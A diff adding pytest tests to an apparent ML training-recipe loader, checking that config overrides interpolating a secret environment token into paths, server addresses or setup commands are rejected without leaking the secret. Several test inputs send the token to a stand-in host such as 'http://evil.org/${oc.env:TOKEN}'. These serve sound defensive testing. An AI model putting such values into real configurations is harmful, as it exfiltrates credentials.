@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from memtrain.errors import LaunchError
+from memtrain.errors import LaunchError, RecipeError
 from memtrain.recipes.reading.environment import hidden, read_again, revealed
 from memtrain.recipes.reading.load import LoadedRecipe, load_recipe
 
@@ -95,3 +95,94 @@ def test_words_that_a_key_must_hold_are_no_secrets(tmp_path: Path, monkeypatch: 
     loaded = load_recipe(str(tmp_path / "r.yaml"))
     assert loaded.environment == ()
     assert hidden(dump(loaded), loaded.environment)["method"] == "sft"
+
+
+BASE = """
+method: grpo
+model: {path: me/base}
+data: {train: rows.jsonl}
+rewards: {functions: [exact_answer]}
+generate: {backend: vllm}
+"""
+
+
+@pytest.mark.parametrize(
+    ("key", "text"),
+    [
+        ("run_dir", "runs/${oc.env:TOKEN}"),
+        ("run_dir", "${oc.env:TOKEN}"),
+        ("run_dir", "${oc.env:FOLDER}/${oc.env:TOKEN}"),
+        ("data.cache_dir", "x${oc.env:TOKEN}"),
+        ("data.train", "${oc.env:TOKEN}/rows"),
+        ("data.train", "me/${oc.env:TOKEN}"),
+        ("data.train", "{source: '${oc.env:TOKEN}'}"),
+        ("model.path", "${oc.env:TOKEN}"),
+        ("model.path", "evil/${oc.env:TOKEN}"),
+        ("model.tokenizer", "evil/x-${oc.env:TOKEN}"),
+        ("model.revision", "${oc.env:TOKEN}"),
+        ("model.chat_template", "${oc.env:TOKEN}"),
+        ("rewards.functions", "${oc.env:TOKEN}.py:score"),
+        ("generate.vllm.server", "http://evil.org/${oc.env:TOKEN}"),
+        ("generate.vllm.server", "http://${oc.env:TOKEN}.evil.org"),
+        ("generate.vllm.python", "${oc.env:TOKEN}"),
+        ("cluster.slurm.account", "${oc.env:TOKEN}"),
+        ("cluster.slurm.setup", "['echo ${oc.env:TOKEN}']"),
+    ],
+)
+def test_text_of_the_environment_is_no_name_and_no_address(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, text: str
+):
+    monkeypatch.setenv("TOKEN", SECRET)
+    monkeypatch.setenv("FOLDER", "/data")
+    (tmp_path / "r.yaml").write_text(BASE)
+    with pytest.raises(RecipeError) as caught:
+        load_recipe(str(tmp_path / "r.yaml"), [f"{key}={text}"])
+    assert "reads" in caught.value.text()
+    assert "TOKEN of the environment into" in caught.value.text()
+    assert SECRET not in caught.value.text()
+
+
+@pytest.mark.parametrize(
+    ("key", "text"),
+    [
+        ("run_dir", "${oc.env:FOLDER}/runs/a"),
+        ("run_dir", "runs/${oc.env:JOB}"),
+        ("run_dir", "${oc.env:FOLDER}/${oc.env:JOB}"),
+        ("model.path", "${oc.env:FOLDER}/base"),
+        ("model.path", "${oc.env:NAME}"),
+        ("data.train", "${oc.env:FOLDER}/rows.jsonl"),
+        ("generate.vllm.server", "${oc.env:ADDRESS}"),
+        ("generate.vllm.python", "${oc.env:FOLDER}/bin/python"),
+        ("log.project", "mine-${oc.env:TOKEN}"),
+    ],
+)
+def test_folders_numbers_and_whole_names_of_the_environment_are_taken_and_hidden(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, key: str, text: str
+):
+    given = {
+        "FOLDER": "/data",
+        "JOB": "4711",
+        "NAME": "me/other",
+        "ADDRESS": "http://h:8000",
+        "TOKEN": SECRET,
+    }
+    for name, value in given.items():
+        monkeypatch.setenv(name, value)
+    (tmp_path / "r.yaml").write_text(BASE)
+    loaded = load_recipe(str(tmp_path / "r.yaml"), [f"{key}={text}"])
+    assert text in json.dumps(hidden(dump(loaded), loaded.environment))
+
+
+def test_a_variable_whose_value_stands_in_the_reference_of_another_is_hidden_beside_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    monkeypatch.setenv("TOKEN", SECRET)
+    monkeypatch.setenv("KIND", "env")
+    monkeypatch.setenv("ODD", "a${b}")
+    (tmp_path / "r.yaml").write_text(BASE)
+    text = "${oc.env:TOKEN} ${oc.env:KIND} ${oc.env:ODD}"
+    loaded = load_recipe(str(tmp_path / "r.yaml"), [f"log.project={text}"])
+    assert loaded.recipe.log.project == f"{SECRET} env a${{b}}"
+    assert hidden(dump(loaded), loaded.environment)["log"]["project"] == text  # pyright: ignore
+    bare = [one.model_copy(update={"value": ""}) for one in loaded.environment]
+    assert revealed(hidden(dump(loaded), loaded.environment), read_again(bare, "x")) == dump(loaded)
